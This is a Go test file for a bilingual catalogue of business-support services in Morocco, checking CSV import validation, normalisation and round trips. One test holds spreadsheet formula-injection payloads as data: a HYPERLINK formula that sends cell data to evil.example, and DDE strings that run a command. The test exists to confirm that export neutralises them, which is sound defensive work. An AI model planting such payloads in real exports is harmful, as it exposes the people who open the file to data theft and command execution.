package catalogue_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/dalil-tt/dalil/catalogue"
	"github.com/dalil-tt/dalil/internal/vocab"
)

// roundTrip writes services and reads them back, failing on any problem.
func roundTrip(t testing.TB, services []*catalogue.Service) []*catalogue.Service {
	t.Helper()
	var b bytes.Buffer
	if err := catalogue.WriteCSV(&b, services); err != nil {
		t.Fatalf("WriteCSV: %v", err)
	}
	got, err := catalogue.ReadCSV(&b, "roundtrip.csv")
	if err != nil {
		t.Fatalf("ReadCSV of WriteCSV output: %v", err)
	}
	return got
}

// colOf returns the 1-based column of name in the standard header.
func colOf(name string) int { return slices.Index(catalogue.Columns, name) + 1 }

// validRow is a correct row; tests override cells.
func validRow() map[string]string {
	return map[string]string{
		"org_id": "org-1", "org_name_fr": "Organisation Un", "org_name_ar": "المنظمة الأولى", "org_kind": "association",
		"service_id": "svc-1", "service_name_fr": "Service un", "service_name_ar": "الخدمة الأولى",
		"needs": "funding.grant|coaching", "provinces": "tetouan", "phone": "+212539000001",
	}
}

func with(r map[string]string, kv ...string) map[string]string {
	out := map[string]string{}
	for k, v := range r {
		out[k] = v
	}
	for i := 0; i < len(kv); i += 2 {
		out[kv[i]] = kv[i+1]
	}
	return out
}

// csvOf renders rows with the standard header; cells are quoted when needed.
func csvOf(rows ...map[string]string) string {
	var b strings.Builder
	b.WriteString(strings.Join(catalogue.Columns, ",") + "\n")
	for _, r := range rows {
		cells := make([]string, len(catalogue.Columns))
		for i, c := range catalogue.Columns {
			v := r[c]
			if strings.ContainsAny(v, ",\"\n") {
				v = `"` + strings.ReplaceAll(v, `"`, `""`) + `"`
			}
			cells[i] = v
		}
		b.WriteString(strings.Join(cells, ",") + "\n")
	}
	return b.String()
}

type wantProblem struct {
	line, col int
	contains  string
}

func problemsOf(t *testing.T, input string) catalogue.Problems {
	t.Helper()
	services, err := catalogue.ReadCSV(strings.NewReader(input), "cat.csv")
	if err == nil {
		t.Fatalf("no error; got %d services", len(services))
	}
	if services != nil {
		t.Errorf("services returned along with problems")
	}
	var ps catalogue.Problems
	if !errors.As(err, &ps) {
		t.Fatalf("error %T is not Problems: %v", err, err)
	}
	return ps
}

func checkProblems(t *testing.T, ps catalogue.Problems, want []wantProblem) {
	t.Helper()
	if len(ps) != len(want) {
		t.Fatalf("got %d problems, want %d:\n%v", len(ps), len(want), ps)
	}
	for i, w := range want {
		p := ps[i]
		if p.File != "cat.csv" || p.Line != w.line || p.Column != w.col || !strings.Contains(p.String(), w.contains) {
			t.Errorf("problem %d = %q (line %d col %d), want line %d col %d containing %q", i, p.String(), p.Line, p.Column, w.line, w.col, w.contains)
		}
	}
}

func TestReadCSVRowProblems(t *testing.T) {
	ok := validRow()
	tests := []struct {
		name string
		rows []map[string]string
		want []wantProblem
	}{
		{"missing org_id", []map[string]string{with(ok, "org_id", "")}, []wantProblem{{2, 1, "org_id: required"}}},
		{"bad org_id", []map[string]string{with(ok, "org_id", "Org_1")}, []wantProblem{{2, 1, `"Org_1" is not a valid id`}}},
		{"missing org_name_fr", []map[string]string{with(ok, "org_name_fr", "  ")}, []wantProblem{{2, colOf("org_name_fr"), "required"}}},
		{"bad org_kind", []map[string]string{with(ok, "org_kind", "ngo")}, []wantProblem{{2, colOf("org_kind"), `"ngo"`}}},
		{"missing service_id", []map[string]string{with(ok, "service_id", "")}, []wantProblem{{2, colOf("service_id"), "required"}}},
		{"bad service_id", []map[string]string{with(ok, "service_id", "svc 1")}, []wantProblem{{2, colOf("service_id"), "not a valid id"}}},
		{"missing service_name_fr", []map[string]string{with(ok, "service_name_fr", "")}, []wantProblem{{2, colOf("service_name_fr"), "required"}}},
		{"duplicate service_id", []map[string]string{ok, ok}, []wantProblem{{3, colOf("service_id"), "first on line 2"}}},
		{"unknown need", []map[string]string{with(ok, "needs", "funding.grant|fundng")}, []wantProblem{{2, colOf("needs"), `"fundng"`}}},
		{"missing needs", []map[string]string{with(ok, "needs", "")}, []wantProblem{{2, colOf("needs"), "required"}}},
		{"empty code", []map[string]string{with(ok, "needs", "coaching||training")}, []wantProblem{{2, colOf("needs"), "empty code"}}},
		{"unknown province", []map[string]string{with(ok, "provinces", "tetouan|tangier")}, []wantProblem{{2, colOf("provinces"), `"tangier"`}}},
		{"missing provinces", []map[string]string{with(ok, "provinces", "")}, []wantProblem{{2, colOf("provinces"), "required"}}},
		{"unknown stage", []map[string]string{with(ok, "stages", "growth")}, []wantProblem{{2, colOf("stages"), `"growth"`}}},
		{"unknown form", []map[string]string{with(ok, "forms", "sarl")}, []wantProblem{{2, colOf("forms"), `"sarl"`}}},
		{"unknown public", []map[string]string{with(ok, "publics", "men")}, []wantProblem{{2, colOf("publics"), `"men"`}}},
		{"unknown sector", []map[string]string{with(ok, "sectors", "mining")}, []wantProblem{{2, colOf("sectors"), `"mining"`}}},
		{"unknown area", []map[string]string{with(ok, "areas", "suburb")}, []wantProblem{{2, colOf("areas"), `"suburb"`}}},
		{"unknown language", []map[string]string{with(ok, "languages", "de")}, []wantProblem{{2, colOf("languages"), `"de"`}}},
		{"bad cost", []map[string]string{with(ok, "cost", "cheap")}, []wantProblem{{2, colOf("cost"), `"cheap"`}}},
		{"latitude not a number", []map[string]string{with(ok, "latitude", "35,7", "longitude", "-5.3")}, []wantProblem{{2, colOf("latitude"), "not a number"}}},
		{"latitude outside Morocco", []map[string]string{with(ok, "latitude", "48.85", "longitude", "-5.3")}, []wantProblem{{2, colOf("latitude"), "outside Morocco"}}},
		{"longitude outside Morocco", []map[string]string{with(ok, "latitude", "35.5", "longitude", "2.35")}, []wantProblem{{2, colOf("longitude"), "outside Morocco"}}},
		{"latitude without longitude", []map[string]string{with(ok, "latitude", "35.5")}, []wantProblem{{2, colOf("longitude"), "without longitude"}}},
		{"longitude without latitude", []map[string]string{with(ok, "longitude", "-5.5")}, []wantProblem{{2, colOf("latitude"), "without latitude"}}},
		{"bad phone", []map[string]string{with(ok, "phone", "12ab")}, []wantProblem{{2, colOf("phone"), "international form"}}},
		{"local phone", []map[string]string{with(ok, "phone", "0539 00 00 01")}, []wantProblem{{2, colOf("phone"), "+212539000001"}}},
		{"short Moroccan phone", []map[string]string{with(ok, "phone", "+212 539 0000")}, []wantProblem{{2, colOf("phone"), "9 digits"}}},
		{"no contact", []map[string]string{with(ok, "phone", "")}, []wantProblem{{2, colOf("phone"), "no contact"}}},
		{"bad email", []map[string]string{with(ok, "email", "contact@exemple")}, []wantProblem{{2, colOf("email"), "e-mail"}}},
		{"email with name", []map[string]string{with(ok, "email", "Contact <c@example.org>")}, []wantProblem{{2, colOf("email"), "e-mail"}}},
		{"website without scheme", []map[string]string{with(ok, "website", "www.example.org")}, []wantProblem{{2, colOf("website"), "http"}}},
		{"website ftp", []map[string]string{with(ok, "website", "ftp://example.org")}, []wantProblem{{2, colOf("website"), "http"}}},
		{"bad date", []map[string]string{with(ok, "updated_at", "01/11/2026")}, []wantProblem{{2, colOf("updated_at"), "YYYY-MM-DD"}}},
		{"impossible date", []map[string]string{with(ok, "updated_at", "2026-02-30")}, []wantProblem{{2, colOf("updated_at"), "YYYY-MM-DD"}}},
		{"organisation name differs", []map[string]string{ok, with(ok, "service_id", "svc-2", "org_name_fr", "Autre nom")},
			[]wantProblem{{3, colOf("org_name_fr"), "line 2"}}},
		{"problems of a row left to right", []map[string]string{ok, with(ok, "service_id", "svc-2", "org_name_fr", "Autre", "email", "x", "org_id", "org-1")},
			[]wantProblem{{3, colOf("org_name_fr"), "line 2"}, {3, colOf("email"), `"x"`}}},
		{"organisation kind differs", []map[string]string{ok, with(ok, "service_id", "svc-2", "org_kind", "public")},
			[]wantProblem{{3, colOf("org_kind"), `"org-1"`}}},
		{"not UTF-8", []map[string]string{with(ok, "description_fr", "caf\xe9")}, []wantProblem{{2, colOf("description_fr"), "UTF-8"}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			checkProblems(t, problemsOf(t, csvOf(tc.rows...)), tc.want)
		})
	}
}

func TestReadCSVMultiLineCellsKeepLineNumbers(t *testing.T) {
	ok := validRow()
	input := csvOf(
		with(ok, "description_fr", "ligne un\nligne deux\nligne trois"),         // lines 2-4
		with(ok, "service_id", "svc-2", "description_ar", "سطر\nسطر \xff ثالث"), // lines 5-6, bad byte on 6
		with(ok, "service_id", "svc-3", "email", "bad@", "hours", "9h\n18h"),    // line 7
		with(ok, "service_id", "svc-4", "phone", "x"),                           // line 9
	)
	checkProblems(t, problemsOf(t, input), []wantProblem{
		{6, colOf("description_ar"), "UTF-8"},
		{7, colOf("email"), "bad@"},
		{9, colOf("phone"), `"x"`},
	})
}

func TestReadCSVReportsEveryProblem(t *testing.T) {
	ok := validRow()
	input := csvOf(
		with(ok, "needs", "nope", "email", "x@y", "provinces", "mars"),
		with(ok, "service_id", "svc-2"),
		with(ok, "service_id", "svc-1", "cost", "??"),
	)
	ps := problemsOf(t, input)
	checkProblems(t, ps, []wantProblem{
		{2, colOf("needs"), `"nope"`},
		{2, colOf("provinces"), `"mars"`},
		{2, colOf("email"), `"x@y"`},
		{4, colOf("service_id"), "first on line 2"},
		{4, colOf("cost"), `"??"`},
	})
	if lines := strings.Split(ps.Error(), "\n"); len(lines) != 5 || !strings.HasPrefix(lines[0], "cat.csv:2:10: needs: ") {
		t.Errorf("Error() = %q", ps.Error())
	}
}

func TestReadCSVHeaderProblems(t *testing.T) {
	row := strings.Repeat(",", len(catalogue.Columns)-1) + "\n"
	swap := func(old, new string) string {
		h := slices.Clone(catalogue.Columns)
		h[slices.Index(h, old)] = new
		return strings.Join(h, ",") + "\n" + row
	}
	tests := []struct {
		name  string
		input string
		want  []wantProblem
	}{
		{"empty file", "", []wantProblem{{1, 0, "header row is missing"}}},
		{"unknown and missing column", swap("phone", "phon"), []wantProblem{
			{1, colOf("phone"), `unknown column "phon"`},
			{1, 0, "missing column(s) in the header: phone"},
		}},
		{"duplicate column", swap("hours", "email"), []wantProblem{
			{1, colOf("hours"), "first in column 26"},
			{1, 0, "hours"},
		}},
		{"missing columns", "org_id,service_id\n", []wantProblem{{1, 0, "org_name_fr, org_name_ar, org_kind, service_name_fr"}}},
		{"malformed quoting", strings.Join(catalogue.Columns, ",") + "\n" + `a,"b"c` + row, []wantProblem{{2, 0, "malformed CSV"}}},
		{"row too short", strings.Join(catalogue.Columns, ",") + "\na,b\n", []wantProblem{{2, 0, "2 cells, the header has 29"}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			checkProblems(t, problemsOf(t, tc.input), tc.want)
		})
	}
}

type failingReader struct{ after string }

func (f *failingReader) Read(p []byte) (int, error) {
	if f.after == "" {
		return 0, errors.New("disk on fire")
	}
	n := copy(p, f.after)
	f.after = f.after[n:]
	return n, nil
}

func TestReadCSVGoesOnAfterSyntaxError(t *testing.T) {
	input := csvOf(validRow()) + `org-2,Assoc "Al Amal",` + strings.Repeat(",", len(catalogue.Columns)-3) + "\n" +
		csvOf(with(validRow(), "service_id", "svc-3", "email", "nope"))[len(strings.Join(catalogue.Columns, ","))+1:]
	checkProblems(t, problemsOf(t, input), []wantProblem{
		{3, 0, "malformed CSV"},
		{4, colOf("email"), `"nope"`},
	})
}

func TestReadCSVStopsAfterMaxProblems(t *testing.T) {
	var rows []map[string]string
	for i := range catalogue.MaxProblems * 2 {
		rows = append(rows, with(validRow(), "service_id", fmt.Sprintf("s-%d", i), "email", "bad"))
	}
	ps := problemsOf(t, csvOf(rows...))
	if len(ps) != catalogue.MaxProblems+1 || !strings.Contains(ps[len(ps)-1].Msg, "too many problems") {
		t.Fatalf("got %d problems, last %v", len(ps), ps[len(ps)-1])
	}
}

func TestReadCSVSkipsBlankRows(t *testing.T) {
	blankRow := strings.Repeat(" ,", len(catalogue.Columns)-1) + "\n"
	input := csvOf(validRow()) + blankRow + blankRow
	got, err := catalogue.ReadCSV(strings.NewReader(input), "cat.csv")
	if err != nil || len(got) != 1 {
		t.Fatalf("got %d services, %v; want 1 and no error", len(got), err)
	}
}

func TestReadCSVReaderError(t *testing.T) {
	_, err := catalogue.ReadCSV(&failingReader{after: csvOf(validRow())}, "cat.csv")
	var ps catalogue.Problems
	if err == nil || errors.As(err, &ps) || !strings.Contains(err.Error(), "disk on fire") {
		t.Fatalf("err = %v, want the reader's error, not Problems", err)
	}
}

func TestReadCSVCRLF(t *testing.T) {
	input := strings.ReplaceAll(csvOf(validRow(), with(validRow(), "service_id", "svc-2", "email", "bad")), "\n", "\r\n")
	checkProblems(t, problemsOf(t, input), []wantProblem{{3, colOf("email"), "bad"}})
}

func TestReadCSVSemicolons(t *testing.T) {
	ok := with(validRow(), "description_fr", "Prêts, conseils; suivi")
	input := strings.ReplaceAll(csvOf(ok), ",", ";")
	input = strings.Replace(input, `"Prêts; conseils; suivi"`, `"Prêts, conseils; suivi"`, 1)
	got, err := catalogue.ReadCSV(strings.NewReader(input), "cat.csv")
	if err != nil {
		t.Fatal(err)
	}
	if got[0].DescriptionFR != "Prêts, conseils; suivi" || got[0].Phone != "+212539000001" {
		t.Fatalf("read %+v", got[0])
	}
}

func TestProblemString(t *testing.T) {
	p := catalogue.Problem{File: "a.csv", Line: 3, Column: 25, Field: "phone", Msg: "bad"}
	if got := p.String(); got != "a.csv:3:25: phone: bad" {
		t.Errorf("String = %q", got)
	}
	p = catalogue.Problem{File: "a.csv", Line: 1, Msg: "missing column(s)"}
	if got := p.String(); got != "a.csv:1: missing column(s)" {
		t.Errorf("String = %q", got)
	}
}

func TestReadCSVNormalises(t *testing.T) {
	ok := validRow()
	// Column order does not matter; cells are trimmed; a BOM is accepted.
	cols := slices.Clone(catalogue.Columns)
	slices.Reverse(cols)
	r := with(ok, "needs", " training | funding | coaching|training ", "provinces", "*", "publics", "*",
		"sectors", "*", "phone", " +212 5-39.00 00 01 ", "latitude", "35.57", "longitude", "-5.37", "cost", "free",
		"languages", "fr|ar", "updated_at", "2026-11-01", "email", " a@example.org ")
	var b strings.Builder
	b.WriteString("\ufeff" + strings.Join(cols, ",") + "\n")
	var cells []string
	for _, c := range cols {
		cells = append(cells, r[c])
	}
	b.WriteString(strings.Join(cells, ",") + "\n")
	got, err := catalogue.ReadCSV(strings.NewReader(b.String()), "cat.csv")
	if err != nil {
		t.Fatal(err)
	}
	s := got[0]
	checks := []struct {
		name      string
		got, want any
	}{
		{"needs", s.Needs, []string{"funding", "coaching", "training"}},
		{"provinces", s.Provinces, vocab.Values[vocab.Provinces]},
		{"publics", s.Publics, []string(nil)},
		{"sectors", s.Sectors, vocab.Values[vocab.Sectors]},
		{"languages", s.Languages, []string{"ar", "fr"}},
		{"phone", s.Phone, "+212539000001"},
		{"email", s.Email, "a@example.org"},
		{"latitude", *s.Latitude, 35.57},
		{"updated", s.UpdatedAt.Format("2006-01-02"), "2026-11-01"},
		{"active", s.Active, true},
	}
	for _, c := range checks {
		if !reflect.DeepEqual(c.got, c.want) {
			t.Errorf("%s = %#v, want %#v", c.name, c.got, c.want)
		}
	}
}

func TestNormalizePhone(t *testing.T) {
	tests := []struct{ in, want string }{
		{"+212539000001", "+212539000001"},
		{"+212 5 39 00 00 01", "+212539000001"},
		{"+212-661.23.45.67", "+212661234567"},
		{"00212 6 61 23 45 67", "+212661234567"},
		{"+212 (0)5 39 00 00 01", ""}, // the (0) gives 10 digits: refused with a hint
		{"+33 1 23 45 67 89", "+33123456789"},
		{"+٢١٢ ٥٣٩ ٠٠٠ ٠٠١", "+212539000001"},
		{"+34 956 00 00 00", "+34956000000"},
		{"0539000001", ""},
		{"+212 439 000 001", ""},
		{"+2125390000011", ""},
		{"+1234", ""},
		{"+0212539000001", ""},
		{"phone", ""},
	}
	for _, tc := range tests {
		got, err := catalogue.NormalizePhone(tc.in)
		if tc.want == "" {
			if err == nil {
				t.Errorf("NormalizePhone(%q) = %q, want an error", tc.in, got)
			}
			continue
		}
		if err != nil || got != tc.want {
			t.Errorf("NormalizePhone(%q) = %q, %v; want %q", tc.in, got, err, tc.want)
		}
	}
}

func TestRoundTrip(t *testing.T) {
	services, err := catalogue.ReadCSV(strings.NewReader(csvOf(
		with(validRow(), "description_fr", "Sur deux lignes,\n\"avec\" des guillemets", "latitude", "35.123456", "longitude", "-5.5",
			"publics", "women|youth", "stages", "*", "hours", "lun.-ven.", "updated_at", "2026-01-31", "website", "https://example.org/a?b=c"),
		with(validRow(), "service_id", "svc.2_b", "email", "x@example.org", "phone", ""),
	)), "cat.csv")
	if err != nil {
		t.Fatal(err)
	}
	again := roundTrip(t, services)
	if !reflect.DeepEqual(services, again) {
		t.Fatalf("round trip differs:\n%+v\n%+v", services[0], again[0])
	}
	// And the text is stable from the second write on.
	var a, b bytes.Buffer
	_ = catalogue.WriteCSV(&a, services)
	_ = catalogue.WriteCSV(&b, again)
	if a.String() != b.String() {
		t.Fatal("WriteCSV output not stable")
	}
	if !strings.Contains(a.String(), ",*,") {
		t.Error("a facet with every value should be written *")
	}
}

func TestSampleParses(t *testing.T) {
	const path = "testdata/sample.csv"
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	services, err := catalogue.ReadCSV(f, path)
	if err != nil {
		t.Fatal(err)
	}
	if len(services) < 4 {
		t.Fatalf("sample has %d services, want at least 4", len(services))
	}
	if !reflect.DeepEqual(roundTrip(t, services), services) {
		t.Fatal("sample does not round trip")
	}
}

// address_ar and hours_ar are optional columns: a file without them reads
// as before, one with them gives the Arabic texts, and WriteCSV writes them
// after the contract's columns.
func TestOptionalArabicColumns(t *testing.T) {
	head := strings.Join(catalogue.Columns, ",")
	row := make([]string, len(catalogue.Columns))
	set := func(col, v string) { row[slices.Index(catalogue.Columns, col)] = v }
	set("org_id", "o")
	set("org_name_fr", "Org")
	set("org_kind", "public")
	set("service_id", "s")
	set("service_name_fr", "Service")
	set("needs", "training")
	set("provinces", "tetouan")
	set("email", "a@example.org")
	set("address", "1 rue Exemple")
	set("hours", "lun.-ven.")
	without, err := catalogue.ReadCSV(strings.NewReader(head+"\n"+strings.Join(row, ",")+"\n"), "without.csv")
	if err != nil || len(without) != 1 || without[0].AddressAR != "" || without[0].Address != "1 rue Exemple" {
		t.Fatalf("file without the optional columns: %v %+v", err, without)
	}
	with, err := catalogue.ReadCSV(strings.NewReader("hours_ar,"+head+",address_ar\nمن الاثنين إلى الجمعة,"+strings.Join(row, ",")+",1، زنقة المثال\n"), "with.csv")
	if err != nil || len(with) != 1 || with[0].AddressAR != "1، زنقة المثال" || with[0].HoursAR != "من الاثنين إلى الجمعة" {
		t.Fatalf("file with the optional columns: %v %+v", err, with)
	}
	var buf strings.Builder
	if err := catalogue.WriteCSV(&buf, with); err != nil {
		t.Fatal(err)
	}
	if first := strings.SplitN(buf.String(), "\n", 2)[0]; first != head+",address_ar,hours_ar" {
		t.Fatalf("header written: %q", first)
	}
	back, err := catalogue.ReadCSV(strings.NewReader(buf.String()), "back.csv")
	if err != nil || back[0].AddressAR != with[0].AddressAR || back[0].HoursAR != with[0].HoursAR {
		t.Fatalf("round trip: %v %+v", err, back)
	}
	if _, err := catalogue.ReadCSV(strings.NewReader("address_en,"+head+"\nx,"+strings.Join(row, ",")+"\n"), "bad.csv"); err == nil {
		t.Fatal("an unknown column was accepted")
	}
}

// The audit exported a service named =HYPERLINK(…): the cell went out as is
// and became a formula in the spreadsheet of whoever opened the export.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	lon, lat := -5.37, 35.57
	attack := map[string]string{ // field -> value
		"service_name_fr": `=HYPERLINK("http://evil.example/?d="&A1,"clic")`,
		"description_fr":  `+cmd|' /C calc'!A0`,
		"description_ar":  "-2+3+cmd|' /C calc'!A0",
		"conditions_fr":   "@SUM(1+1)*cmd|' /C calc'!A0",
		"conditions_ar":   "'=already escaped by hand", // really starts with a quote
		"address":         "''+two quotes",
		"city":            "'quoted, not a formula",
		"hours":           "-",
		"org_name_ar":     "=1+1",
	}
	s := &catalogue.Service{ID: "svc-1", Org: catalogue.Organisation{ID: "org-1", NameFR: "Org", NameAR: attack["org_name_ar"], Kind: "association"},
		NameFR: attack["service_name_fr"], DescriptionFR: attack["description_fr"], DescriptionAR: attack["description_ar"],
		ConditionsFR: attack["conditions_fr"], ConditionsAR: attack["conditions_ar"], Address: attack["address"], City: attack["city"],
		Hours: attack["hours"], Needs: []string{"training"}, Provinces: []string{"tetouan"}, Phone: "+212539000001",
		Latitude: &lat, Longitude: &lon, Active: true}
	var b bytes.Buffer
	if err := catalogue.WriteCSV(&b, []*catalogue.Service{s}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("export: %v %v", recs, err)
	}
	cell := map[string]string{}
	for i, name := range recs[0] {
		cell[name] = recs[1][i]
	}
	for name, v := range cell {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && name != "phone" && name != "longitude" {
			t.Errorf("%s exported as %q: a spreadsheet runs it as a formula", name, v)
		}
	}
	for name, v := range attack {
		if want := "'" + v; (v[0] != '\'' || name == "conditions_ar" || name == "address") && cell[name] != want {
			t.Errorf("%s: exported %q, want %q", name, cell[name], want)
		}
	}
	if cell["city"] != attack["city"] {
		t.Errorf("a quote before plain text was changed: %q", cell["city"])
	}
	// Numbers cannot call anything: phones and coordinates stay as they are.
	if cell["phone"] != "+212539000001" || cell["longitude"] != "-5.37" {
		t.Errorf("phone %q, longitude %q", cell["phone"], cell["longitude"])
	}
	// Import gives every value back exactly.
	got := roundTrip(t, []*catalogue.Service{s})
	if !reflect.DeepEqual([]*catalogue.Service{s}, got) {
		t.Fatalf("round trip differs:\n%+v\n%+v", s, got[0])
	}
}

// A file escaped by another tool ('+212…, '-5.5) imports as the values.
func TestReadCSVTakesEscapedCells(t *testing.T) {
	services, err := catalogue.ReadCSV(strings.NewReader(csvOf(
		with(validRow(), "phone", "'+212 539-00 00 01", "longitude", "'-5.5", "latitude", "35.5", "service_name_fr", "'=1+1", "city", "'Tanger"),
	)), "cat.csv")
	if err != nil {
		t.Fatal(err)
	}
	s := services[0]
	if s.Phone != "+212539000001" || *s.Longitude != -5.5 || s.NameFR != "=1+1" || s.City != "'Tanger" {
		t.Fatalf("read %q %v %q %q", s.Phone, *s.Longitude, s.NameFR, s.City)
	}
}
